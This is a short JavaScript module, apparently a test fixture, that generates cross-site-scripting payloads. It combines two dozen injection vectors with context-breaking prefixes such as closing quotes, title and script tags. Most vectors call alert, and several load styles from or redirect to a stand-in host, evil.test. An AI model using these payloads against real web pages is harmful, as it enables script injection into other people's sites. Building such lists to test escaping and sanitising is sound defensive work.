// Markup that would take effect if a page inserted it unescaped: each script vector after each prefix that
// leaves the surrounding context. A script that runs calls `alert`, and inserted elements have the mark.

export const MARK = "data-injected";

const VECTORS = [
  `<script ${MARK}>alert(1)</script>`,
  `<img ${MARK} src=x onerror=alert(1)>`,
  `<svg ${MARK} onload=alert(1)>`,
  `<svg ${MARK}><script>alert(1)</script></svg>`,
  `<svg ${MARK}><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<iframe ${MARK} srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:alert(1)"></iframe>`,
  `<a ${MARK} href="javascript:alert(1)">x</a>`,
  `<body ${MARK} onload=alert(1)>`,
  `<details ${MARK} open ontoggle=alert(1)>x`,
  `<video ${MARK}><source onerror=alert(1)></video>`,
  `<input ${MARK} autofocus onfocus=alert(1)>`,
  `<form ${MARK} action="javascript:alert(1)"><button autofocus>x</button></form>`,
  `<object ${MARK} data="javascript:alert(1)"></object>`,
  `<embed ${MARK} src="data:text/html,<script>alert(1)</script>">`,
  `<math ${MARK}><mtext></p><img src=x onerror=alert(1)>`,
  `<base ${MARK} href="//evil.test/">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=//evil.test/">`,
  `<link ${MARK} rel="stylesheet" href="//evil.test/x.css">`,
  `<style ${MARK}>@import "//evil.test/x.css";</style>`,
  `<template ${MARK}><img src=x onerror=alert(1)></template>`,
  `<button ${MARK} popovertarget=p onclick=alert(1)>x</button>`,
  ` ${MARK} onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=0 `,
  ` ${MARK} style="animation-name:x" onanimationstart=alert(1) `,
];
const PREFIXES = ["", `">`, `'>`, "</title>", "</textarea>", "</pre></code>", "</script>", "-->", `" `, "' "];

/** All combinations of prefix and vector. */
export const PAYLOADS = PREFIXES.flatMap((prefix) => VECTORS.map((vector) => prefix + vector));
